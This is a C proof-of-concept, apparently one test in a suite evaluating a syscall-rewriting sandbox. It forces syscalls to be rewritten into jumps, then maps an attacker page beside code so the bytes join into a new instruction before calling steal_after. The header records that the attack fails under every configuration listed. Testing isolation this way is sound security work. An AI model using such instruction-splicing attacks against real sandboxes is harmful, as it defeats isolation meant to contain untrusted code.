/* none: fails "nothing joined"; keys: fails "nothing joined"; full: fails "nothing joined" */
#define ATTACK_OPENS
#include "attack.h"

/*
 * A system call at the end of a page, which is rewritten when it is first made: the jump's distance is to end there in 0f. The page
 * is mapped a second time before, above one of the attacker's own that begins with 01 ef: both are looked at, and harmless then.
 */
#define TRIPLES 220
#define TRIPLE (3 * PAGE) /* a call that only fills slots, one on a page, because all of a page are rewritten at once; a page; a key, from its end on */
#define BEFORE 3          /* of a key's bytes on the first page: those of a jump, up to the distance's second */
#define SLOTS (4 * PAGE)
#define TRAPS 1000 /* more than it takes until calls are rewritten */

__asm__(".macro getpid_call\n.type call\\@, @function\ncall\\@:\t.cfi_startproc\n\tmov $39, %eax\n\tsyscall\n\tret\n\t.cfi_endproc\n.size call\\@, . - call\\@\n.endm\n"
	".pushsection .text\n.balign 4096\ntriples:\n.rept 220\n\tgetpid_call\n.balign 4096, 0xcc\n.skip 4093, 0xcc\n\tgetpid_call\n.balign 4096, 0xcc\n.endr\n.popsection");
extern unsigned char triples[];
extern const char __executable_start[];

static void make(const unsigned char *call)
{
	((long (*)(void))call)();
}

static unsigned char *jumped_to(const unsigned char *code)
{
	int32_t distance;

	memcpy(&distance, code + 1, sizeof distance);
	return (unsigned char *)code + 5 + distance;
}

/* Where the next slot will be. */
static const unsigned char *next_slot(const unsigned char *slots)
{
	const unsigned char *end = slots + SLOTS;

	while (!end[-1])
		end--;
	return (const unsigned char *)(((uintptr_t)end + 7) & -8ul);
}

/* The call whose jump would end so. */
static unsigned char *find_key(const unsigned char *slot)
{
	for (unsigned char *key = triples + 2 * PAGE - BEFORE; key < triples + TRIPLES * TRIPLE; key += TRIPLE)
		if ((uint8_t)((uint64_t)(slot - (key + 5)) >> 8) == 0x0f)
			return key;
	return NULL;
}

int main(void)
{
	unsigned char *key = NULL, *place = map(2, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
	const unsigned char *slots;
	int fd = open("/proc/self/exe", O_RDONLY);

	for (int i = 0; i < TRAPS && *triples != 0xe9; i++)
		make(triples);
	if (*triples != 0xe9)
		return say("not rewritten\n"), 0;
	slots = (const unsigned char *)((uintptr_t)jumped_to(triples) & -PAGE);
	for (int i = 1; i < TRIPLES && !(key = find_key(next_slot(slots))); i++)
		make(triples + i * TRIPLE);
	if (!key)
		return say("no distance ends so\n"), 0;
	memcpy(place + PAGE, "\x01\xef\xc3", 3);
	protect(place + PAGE, 1, PROT_READ | PROT_EXEC);
	if (mmap(place, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, (off_t)(((uintptr_t)key & -PAGE) - (uintptr_t)__executable_start)) == MAP_FAILED)
		return say("mmap: %s\n", strerrorname_np(errno)), 0;
	make(place + PAGE + 2); /* ret: from now on it may be executed */
	make(key);
	if (place[PAGE - 1] != 0x0f)
		return say("nothing joined\n"), 0;
	steal_after(place + PAGE - 1, 0);
	return 0;
}
